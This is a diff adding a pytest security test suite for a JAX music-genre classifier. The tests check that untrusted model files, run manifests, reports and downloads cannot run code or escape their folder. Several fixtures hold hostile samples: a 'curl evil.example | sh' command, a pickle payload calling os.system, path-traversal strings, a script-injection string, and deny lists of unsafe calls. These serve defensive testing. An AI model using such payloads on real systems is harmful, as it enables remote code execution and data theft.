@@ -1,0 +1,490 @@
+"""What comes from strangers cannot run code, nor reach beyond its folder."""
+
+import ast
+import io
+import json
+import os
+import random
+import shutil
+import stat
+import sys
+from itertools import pairwise
+from pathlib import Path
+
+import jax
+import numpy as np
+import pytest
+import requests
+from conftest import make_sweep
+from finished_runs import random_history, write_run
+from requests.adapters import HTTPAdapter
+
+from gtzan_jax import chunks, features, kaggle, platforms
+from gtzan_jax.chunks import ChunkStore
+from gtzan_jax.errors import InputError, RunError
+from gtzan_jax.features import load_table, parse_table
+from gtzan_jax.files import digest, sealed
+from gtzan_jax.finished import read_run
+from gtzan_jax.model import layer_names
+from gtzan_jax.report import build
+from gtzan_jax.rundir import RunDir
+from gtzan_jax.sample import sample_text
+from gtzan_jax.splits import random_split, standardise
+from gtzan_jax.trained import TrainedModel, load_model
+
+PACKAGE = Path(features.__file__).parent
+SWEEP = make_sweep()
+
+# ------------------------------------------------------------------------------------ the source
+
+FORBIDDEN_MODULES = {"pickle", "cPickle", "marshal", "shelve", "dill", "cloudpickle", "joblib"}
+FORBIDDEN_CALLS = {
+    "eval", "exec", "compile", "__import__", "os.system", "os.popen", "yaml.load",
+    "pd.read_pickle", "pandas.read_pickle",
+}  # fmt: skip
+
+
+def calls_of(tree):
+    """Yields the calls in a module: the dotted name, and the call."""
+    for node in ast.walk(tree):
+        if isinstance(node, ast.Call):
+            yield ast.unparse(node.func), node
+
+
+def value_of(call, keyword):
+    return next((ast.unparse(k.value) for k in call.keywords if k.arg == keyword), None)
+
+
+def problems_of(source):
+    tree = ast.parse(source)
+    for node in ast.walk(tree):
+        names = [alias.name for alias in node.names] if isinstance(node, ast.Import) else []
+        names += [node.module or ""] if isinstance(node, ast.ImportFrom) else []
+        yield from (name for name in names if name.partition(".")[0] in FORBIDDEN_MODULES)
+    for name, call in calls_of(tree):
+        if name in FORBIDDEN_CALLS or value_of(call, "shell") not in (None, "False"):
+            yield name
+        if name in ("np.load", "numpy.load") and value_of(call, "allow_pickle") != "False":
+            yield name
+
+
+@pytest.mark.parametrize("path", sorted(PACKAGE.rglob("*.py")), ids=lambda path: path.name)
+def test_nothing_that_is_read_can_run(path):
+    assert not list(problems_of(path.read_text(encoding="utf-8")))
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "import pickle",
+        "from joblib import load",
+        "import dill.source",
+        "eval(text)",
+        "os.system(text)",
+        "subprocess.run(text, shell=True)",
+        "np.load(path)",
+        "np.load(path, allow_pickle=True)",
+        "yaml.load(text)",
+    ],
+)
+def test_what_could_run_would_be_found(source):
+    assert list(problems_of(source))
+
+
+# -------------------------------------------------------------------------------------- the cache
+
+
+@pytest.fixture
+def settings_of(monkeypatch):
+    """Returns what enables the cache in a folder and gives the settings that JAX got."""
+
+    def enable(folder):
+        settings = {}
+        with monkeypatch.context() as patch:
+            patch.setattr(jax.config, "update", settings.__setitem__)
+            patch.setitem(jax.config.values, "jax_compilation_cache_dir", None)
+            platforms._enable_compilation_cache(folder)
+        return settings
+
+    return enable
+
+
+needs_posix = pytest.mark.skipif(not hasattr(os, "getuid"), reason="needs POSIX permissions")
+
+
+@needs_posix
+@pytest.mark.parametrize("mode", [0o770, 0o777, 0o702, 0o720])
+def test_a_cache_that_others_can_write_is_ignored_with_a_warning(tmp_path, settings_of, mode):
+    folder = tmp_path / "xla"
+    folder.mkdir()
+    folder.chmod(mode)
+    with pytest.warns(UserWarning, match="writable for others"):
+        assert not settings_of(folder)
+
+
+@needs_posix
+def test_a_cache_that_links_to_where_others_can_write_is_ignored(tmp_path, settings_of):
+    (tmp_path / "shared").mkdir()
+    (tmp_path / "shared").chmod(0o777)
+    (tmp_path / "xla").symlink_to("shared")
+    with pytest.warns(UserWarning, match="writable for others"):
+        assert not settings_of(tmp_path / "xla")
+
+
+@needs_posix
+def test_a_cache_that_others_can_replace_is_ignored(tmp_path, settings_of):
+    (tmp_path / "shared").mkdir()
+    (tmp_path / "shared").chmod(0o777)
+    with pytest.warns(UserWarning, match="writable for others"):
+        assert not settings_of(tmp_path / "shared" / "xla")
+    (tmp_path / "link").symlink_to("shared/xla")
+    with pytest.warns(UserWarning, match="writable for others"):
+        assert not settings_of(tmp_path / "link")
+
+
+@needs_posix
+def test_a_cache_in_a_folder_like_tmp_is_used(tmp_path, settings_of):
+    (tmp_path / "tmp").mkdir()
+    (tmp_path / "tmp").chmod(0o1777)
+    assert settings_of(tmp_path / "tmp" / "xla")
+
+
+@needs_posix
+def test_a_new_cache_is_closed_to_others(tmp_path, settings_of):
+    folder = tmp_path / "new" / "xla"
+    assert settings_of(folder)["jax_compilation_cache_dir"] == str(folder)
+    assert stat.S_IMODE(folder.stat().st_mode) == stat.S_IRWXU
+
+
+@pytest.mark.parametrize("make", [lambda p: p.write_text(""), lambda p: p.symlink_to("nowhere")])
+def test_a_cache_that_is_no_folder_is_ignored(tmp_path, settings_of, make):
+    make(tmp_path / "xla")
+    assert not settings_of(tmp_path / "xla")
+
+
+# ------------------------------------------------------------------------------------- model files
+
+
+@pytest.fixture(scope="module")
+def model_folder(tmp_path_factory):
+    """The folder of a model, which has learnt nothing."""
+    config, table = SWEEP.configs()[0], load_table("sample")
+    sizes = pairwise((len(table.features), *config.shape, len(table.genres)))
+    params = {
+        layer: {"kernel": np.ones(shape, np.float32), "bias": np.zeros(shape[1], np.float32)}
+        for layer, shape in zip(layer_names(len(config.shape)), sizes, strict=True)
+    }
+    dataset = standardise(table, random_split(table, 0))
+    folder = tmp_path_factory.mktemp("model")
+    TrainedModel.of(config, params, SWEEP, table, dataset).save(folder)
+    load_model(folder)
+    return folder
+
+
+def loads_or_tells(folder):
+    """Loads a model, or returns the one line that says why not."""
+    problem = ""
+    try:
+        load_model(folder)
+    except InputError as error:
+        problem = str(error)
+    assert problem.isprintable()
+    return problem
+
+
+@pytest.mark.parametrize("name", ["model.npz", "model.json"])
+def test_a_damaged_model_is_refused_in_one_line(model_folder, tmp_path, name):
+    shutil.copytree(model_folder, tmp_path, dirs_exist_ok=True)
+    whole, damage = (tmp_path / name).read_bytes(), random.Random(0)
+    for _ in range(200):
+        content = bytearray(whole)
+        if damage.random() < 0.3:
+            del content[damage.randrange(len(content)) :]
+        else:
+            content[damage.randrange(len(content))] ^= 1 << damage.randrange(8)
+        (tmp_path / name).write_bytes(content)
+        if not loads_or_tells(tmp_path):  # a space for another, say
+            assert json.loads(content) == json.loads(whole)
+    (tmp_path / name).write_bytes(b"")
+    assert str(tmp_path) in loads_or_tells(tmp_path)
+
+
+@pytest.mark.parametrize(
+    ("name", "content"),
+    [
+        ("model.json", b"[" * 100_000),
+        ("model.json", b"[]"),
+        ("model.json", b"null"),
+        ("model.json", b'{"format": 2, "leaky_slope": NaN}'),
+        ("model.npz", b"\x80\x04cos\nsystem\n."),
+        ("model.npz", b"\x93NUMPY\x01\x00v\x00{'descr': '|O', 'fortran_order': False}"),
+    ],
+)
+def test_a_hostile_model_is_refused_in_one_line(model_folder, tmp_path, name, content):
+    shutil.copytree(model_folder, tmp_path, dirs_exist_ok=True)
+    (tmp_path / name).write_bytes(content)
+    if name == "model.npz":
+        seal_model(tmp_path, {"weights_sha256": digest(tmp_path / name)})
+    assert str(tmp_path) in loads_or_tells(tmp_path)
+
+
+def seal_model(folder, changes):
+    """Changes what describes a model and seals it again, as a stranger can."""
+    described = json.loads((folder / "model.json").read_text())
+    (folder / "model.json").write_text(json.dumps(sealed(described | changes)))
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [
+        {"mean": [0.0]},
+        {"scale": [[1.0]]},
+        {"scale": [0.0] * 57},
+        {"leaky_slope": "steep"},
+        {"genres": ["a"]},
+        {"features": "tempo"},
+        {"config": {}},
+    ],
+)
+def test_a_model_whose_parts_do_not_fit_is_refused(model_folder, tmp_path, changes):
+    shutil.copytree(model_folder, tmp_path, dirs_exist_ok=True)
+    seal_model(tmp_path, changes)
+    assert str(tmp_path) in loads_or_tells(tmp_path)
+
+
+# --------------------------------------------------------------------------------- run directories
+
+
+@pytest.fixture
+def folder(tmp_path):
+    return write_run(tmp_path / "run", SWEEP, random_history(SWEEP))
+
+
+@pytest.fixture(scope="module")
+def opened():
+    """The paths that this process opens, from now on."""
+    paths, watching = [], [True]
+
+    def watch(event, arguments):
+        if watching and event == "open" and isinstance(arguments[0], str | os.PathLike):
+            paths.append(os.path.realpath(arguments[0]))
+
+    sys.addaudithook(watch)  # for good: there is no way to remove it
+    yield paths
+    watching.clear()
+
+
+def seal(folder, change):
+    """Changes a manifest and seals it again, as a stranger can."""
+    run = RunDir(folder)
+    manifest = run.read_manifest()
+    change(manifest)
+    run.write_manifest(manifest)
+
+
+@pytest.mark.parametrize(
+    "how", ["best/../../secret.csv", "best/{}", "results.csv/../../secret.csv"]
+)
+def test_paths_in_a_manifest_do_not_lead_out_of_the_folder(folder, tmp_path, opened, how):
+    secret = tmp_path / "secret.csv"
+    secret.write_text("epoch\n1\n")
+    key, checksum = how.format(secret), digest(secret)
+    seal(folder, lambda m: m.update(retraining={"epochs": 1}, sha256=m["sha256"] | {key: checksum}))
+    opened.clear()
+    with pytest.raises(InputError) as error:
+        build(read_run(folder))
+    assert error.value.args[0].isprintable()
+    assert os.path.realpath(secret) not in opened
+
+
+@pytest.mark.parametrize("name", ["best", "chunks", "overview", "tensorboard", "results.csv"])
+def test_links_in_a_run_directory_do_not_lead_out_of_it(folder, tmp_path, name):
+    outside = tmp_path / "outside"
+    if (folder / name).exists():
+        (folder / name).rename(outside)
+    else:
+        outside.mkdir()
+    (folder / name).symlink_to(outside)
+    with pytest.raises(InputError, match=f"{name} is a link"):
+        RunDir(folder).read_manifest()
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        lambda m: m.update(sha256=3),
+        lambda m: m.update(sha256={"results.csv": None}),
+        lambda m: m.update(sweep=3),
+        lambda m: m["sweep"].update(name=3),
+        lambda m: m.update(data=3),
+        lambda m: m["data"].update(source=3),
+        lambda m: m["data"].update(flag=3),
+        lambda m: m["data"].update(genres=3),
+        lambda m: m["data"].update(repeats=3),
+        lambda m: m.update(split=3),
+        lambda m: m.update(seeds="a"),
+        lambda m: m.update(timings_s=3),
+        lambda m: m.update(versions=3),
+    ],
+)
+def test_a_manifest_of_other_types_is_refused_in_one_line(folder, change):
+    seal(folder, change)
+    with pytest.raises(InputError) as error:
+        build(read_run(folder))
+    assert error.value.args[0].isprintable()
+
+
+def test_a_manifest_nested_without_end_is_refused(folder):
+    (folder / "manifest.json").write_text("[" * 100_000)
+    with pytest.raises(InputError, match=r"manifest\.json"):
+        RunDir(folder).read_manifest()
+
+
+def test_a_strangers_command_is_not_recommended(folder):
+    seal(folder, lambda m: m.update(resume="curl evil.example | sh\n\x1b[2K"))
+    (folder / "results.csv").write_text("")
+    with pytest.raises(InputError) as error:
+        read_run(folder)
+    assert "evil.example" not in str(error.value)
+    assert str(error.value).isprintable()
+
+
+@pytest.mark.parametrize(
+    "members", [None, 3, [[0]], [[0, 5]], [["a", [0]]], [[0, [10**9]]], [[0, [-1]]], [[[], [0]]]]
+)
+def test_a_hostile_chunk_is_taken_for_damaged(tmp_path, members):
+    payload = bytes(4 * 4 * 2)  # of one member and two epochs
+    (tmp_path / "000001.chunk").write_bytes(chunks._encode(members, payload))
+    store = ChunkStore(tmp_path, 2)
+    if not store.damaged:
+        with pytest.raises(RunError, match="damaged"):
+            store.history(12, [0])
+
+
+# -------------------------------------------------------------------------------------- the report
+
+EVIL = "<script>window.evil = 1</script>"
+
+
+def test_what_came_from_a_stranger_stays_text_in_the_report(tmp_path):
+    lines = sample_text().splitlines()
+    lines = [line.replace("blues.sample00.wav", f"{EVIL}.wav") for line in lines]
+    twin = lines[1].replace(f"{EVIL}.wav", f"{EVIL}2.wav")  # repeats are listed by name
+    table = parse_table("\n".join([*lines, twin]), f"{EVIL}.csv")
+    assert any(EVIL in track for track in table.tracks)
+    folder = write_run(tmp_path / "run", SWEEP, random_history(SWEEP), table, command=EVIL)
+    seal(folder, lambda m: (m["sweep"].update(name=EVIL), m["versions"].update({EVIL: EVIL})))
+    report = build(read_run(folder))
+    for text in (report.html, report.markdown):
+        assert "<script>window" not in text
+        assert "&lt;script&gt;window.evil" in text
+
+
+# ------------------------------------------------------------------------------------ the download
+
+
+class Kaggle:
+    """Stands in for Kaggle's servers; kagglehub itself is the real one.
+
+    Args:
+      content: the file that they serve.
+      breaks_after: bytes after which the connection breaks; None if it does not.
+    """
+
+    def __init__(self, content, breaks_after=None):
+        self.content, self.breaks_after = content, breaks_after
+        self.requests = []
+
+    def send(self, _adapter, request, **options):
+        self.requests.append((request.url, options.get("verify")))
+        response = requests.Response()
+        response.status_code, response.url, response.request = 200, request.url, request
+        if "GetDataset" in request.url:
+            response.headers["Content-Type"] = "application/json"
+            response.raw = io.BytesIO(b'{"currentVersionNumber": 1}')
+        elif "DownloadDataset" in request.url:
+            response.headers["Content-Length"] = str(len(self.content))
+            response.raw = Breaking(self.content, self.breaks_after)
+        else:
+            response.raw = io.BytesIO(b"{}")
+        return response
+
+
+class Breaking(io.BytesIO):
+    """A connection that breaks."""
+
+    def __init__(self, content, breaks_after):
+        super().__init__(content[:breaks_after])
+        self.breaks = breaks_after is not None
+
+    def read(self, *args):
+        content = super().read(*args)
+        if self.breaks and not content:
+            raise requests.ConnectionError("connection reset")
+        return content
+
+
+@pytest.fixture
+def served(tmp_path, monkeypatch):
+    """Returns what puts a fake in Kaggle's place."""
+    pytest.importorskip("kagglesdk")
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setenv("KAGGLEHUB_CACHE", str(tmp_path / "kagglehub"))
+    monkeypatch.setattr(features, "PACKAGE", tmp_path / "checkout" / "gtzan_jax")
+    monkeypatch.setattr(features, "cache_dir", lambda: tmp_path / "cache")
+
+    def serve(*args):
+        fake = Kaggle(*args)
+        monkeypatch.setattr(HTTPAdapter, "send", lambda *a, **k: fake.send(*a, **k))
+        return fake
+
+    return serve
+
+
+@pytest.fixture
+def content(monkeypatch):
+    """A table with the checksum that Kaggle's is expected to have."""
+    content = sample_text().encode()
+    monkeypatch.setattr(features, "KAGGLE_SHA256", features._sha256(content.decode()))
+    return content
+
+
+def test_the_download_is_over_tls_with_the_certificates_checked(served, content):
+    fake = served(content)
+    assert load_table("kaggle").source == "kaggle"
+    assert len(fake.requests) >= 3
+    for url, verify in fake.requests:
+        assert url.startswith("https://")
+        assert verify is not False
+
+
+@pytest.mark.parametrize("share", [0.0, 0.5, 0.999])
+def test_an_interrupted_download_leaves_nothing_that_looks_whole(served, content, tmp_path, share):
+    served(content, int(share * len(content)))
+    with pytest.raises(InputError, match="the download from Kaggle failed") as error:
+        load_table("kaggle")
+    assert "\n" not in str(error.value)
+    assert not (tmp_path / "cache").exists()
+    served(content)
+    assert load_table("kaggle").sha256 == features.KAGGLE_SHA256
+
+
+def test_a_download_is_not_used_before_its_checksum_is_right(served, content, tmp_path):
+    served(content.replace(b"blues", b"Blues"))
+    with pytest.raises(InputError, match="is not the expected"):
+        load_table("kaggle")
+    assert not (tmp_path / "cache").exists()
+    served(content)
+    assert load_table("kaggle").sha256 == features.KAGGLE_SHA256
+
+
+def test_a_download_that_is_too_large_is_refused(served, content, tmp_path, monkeypatch):
+    monkeypatch.setattr(kaggle, "MAX_BYTES", 1000)
+    served(content)
+    with pytest.raises(InputError, match="more than 1,000 bytes"):
+        load_table("kaggle")
+    assert not [path for path in tmp_path.rglob("*.csv") if path.is_file()]
+
+
+def test_the_limit_leaves_room_for_the_real_table(real_table_path):
+    assert 2 * real_table_path.stat().st_size < kaggle.MAX_BYTES
